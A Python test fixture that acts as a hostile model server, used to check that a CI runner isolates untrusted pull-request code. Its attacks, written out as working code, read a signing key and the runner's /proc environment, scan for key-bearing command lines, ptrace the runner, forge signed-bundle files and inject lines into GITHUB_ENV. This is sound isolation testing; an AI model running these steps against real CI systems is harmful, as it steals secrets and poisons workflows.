"""A hostile model server: what a pull request's candidate could run inside the screened
server, tried against the real runner (``tests/test_runner_isolation.py``).

Standard library only, so that it runs under the system Python as any account.  Started as
the runner starts a server (``HOSTILE_PREFIX MODEL --omni FLAGS --host H --port P``), it first
tries to turn the host against the evidence, then serves ``/health`` and
``/v1/videos/sync`` (a fixed MP4 given with ``--mp4``) so the screen completes.  Every
attempt is logged on stdout (the session log the runner bundles) as one line
``HOSTILE {"attack": ..., "result": ...}``; ``result`` is ``"blocked: ..."`` or
``"succeeded: ..."``.  The attacks:

* read the signing key at the path the runner config names (``--key``);
* read the runner's ``/proc/<ppid>/cmdline`` and ``environ`` and look for ``--signing-key``
  in every visible ``/proc/*/cmdline``;
* ``ptrace(PTRACE_SEIZE)`` the runner;
* write a forged receipt and an extra file into the bundle folder (``--out``) the runner
  later signs;
* append to the runner's ``GITHUB_ENV`` / ``GITHUB_OUTPUT`` files (``--github-file``), which
  would inject variables or outputs into the workflow's later steps;
* report which of the runner's variables it inherited (tokens, ``GITHUB_*``, ``PYTHONPATH``,
  ``LD_PRELOAD``, the signing key's variable).
"""

from __future__ import annotations

import argparse
import ctypes
import glob
import http.server
import json
import os
import sys
from pathlib import Path

STOLEN_NAMES = ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
                "GITHUB_ENV", "GITHUB_OUTPUT", "PYTHONPATH", "LD_PRELOAD",
                "CAMPAIGN_BOT_SIGNING_KEY", "RUNNER_TEMP")


def report(attack: str, ok: bool, detail: str) -> None:
    """One log line per attempt: ``succeeded`` when the attack worked."""
    line = {"attack": attack, "result": ("succeeded: " if ok else "blocked: ") + detail[:200]}
    print("HOSTILE " + json.dumps(line), flush=True)


def attempt(attack: str, fn) -> None:  # noqa: ANN001 - a plain callable returning a detail
    try:
        report(attack, True, str(fn()))
    except OSError as exc:
        report(attack, False, f"{type(exc).__name__}: {exc.strerror or exc}")


def attacks(args: argparse.Namespace) -> None:
    ppid = os.getppid()
    status = Path("/proc/self/status").read_text()
    uid_line = next(ln for ln in status.splitlines() if ln.startswith("Uid:"))
    cap_line = next(ln for ln in status.splitlines() if ln.startswith("CapEff:"))
    report("identity", False, f"{uid_line.split()[1]} {cap_line.split()[1]}")
    attempt("read signing key", lambda: len(Path(args.key).read_bytes()))
    attempt("read runner cmdline", lambda: Path(f"/proc/{ppid}/cmdline").read_bytes()
            .replace(b"\0", b" ").decode(errors="replace"))
    attempt("read runner environ", lambda: len(Path(f"/proc/{ppid}/environ").read_bytes()))

    def scan() -> str:
        hits = []
        for f in glob.glob("/proc/[0-9]*/cmdline"):
            try:
                if b"--signing-key" in Path(f).read_bytes():
                    hits.append(f)
            except OSError:
                continue
        if not hits:
            raise OSError(2, "no visible command line names --signing-key")
        return ", ".join(hits)

    attempt("scan /proc for --signing-key", scan)

    def ptrace() -> str:
        # PTRACE_SEIZE (not ATTACH): the runner is not stopped when it succeeds; the kernel
        # detaches when this process exits.  Succeeding means it could read the key in memory.
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(0x4206, ppid, None, None) != 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))
        return f"seized {ppid}"

    attempt("ptrace the runner", ptrace)
    out = Path(args.out)
    attempt("write a forged receipt", lambda: (out / "data" / "receipts" / "forged.json")
            .write_text('{"schema": "campaign-bot/receipt@1"}'))
    attempt("write into the bundle", lambda: (out / "data" / "injected.txt").write_text("x"))
    for f in args.github_file:
        def append(f: str = f) -> str:
            with open(f, "a") as fh:
                fh.write("INJECTED=1\n")
            return f
        attempt(f"append to {Path(f).name}", append)
    got = [n for n in STOLEN_NAMES if n in os.environ]
    report("inherited runner variables", bool(got), ", ".join(got) or "none of "
           + ", ".join(STOLEN_NAMES))


class Handler(http.server.BaseHTTPRequestHandler):
    """``GET /health`` 200; ``POST /v1/videos/sync`` answers the fixed MP4."""

    mp4 = b""

    def log_message(self, *_: object) -> None:
        return

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        body = b'{"status":"healthy"}'
        self.send_response(200 if self.path == "/health" else 404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:  # noqa: N802 - http.server's name
        n = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(n)
        self.send_response(200)
        self.send_header("Content-Type", "video/mp4")
        self.send_header("X-Request-Id", "video_sync-0123456789abcdef")
        self.send_header("X-Inference-Time-S", "0.010")
        self.send_header("Content-Length", str(len(self.mp4)))
        self.end_headers()
        self.wfile.write(self.mp4)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--key", required=True)
    ap.add_argument("--out", required=True)
    ap.add_argument("--mp4", required=True)
    ap.add_argument("--github-file", action="append", default=[])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    args, _rest = ap.parse_known_args()
    attacks(args)
    Handler.mp4 = Path(args.mp4).read_bytes()
    srv = http.server.HTTPServer((args.host, args.port), Handler)
    import signal
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    try:
        srv.serve_forever()
    finally:
        srv.server_close()


if __name__ == "__main__":
    main()
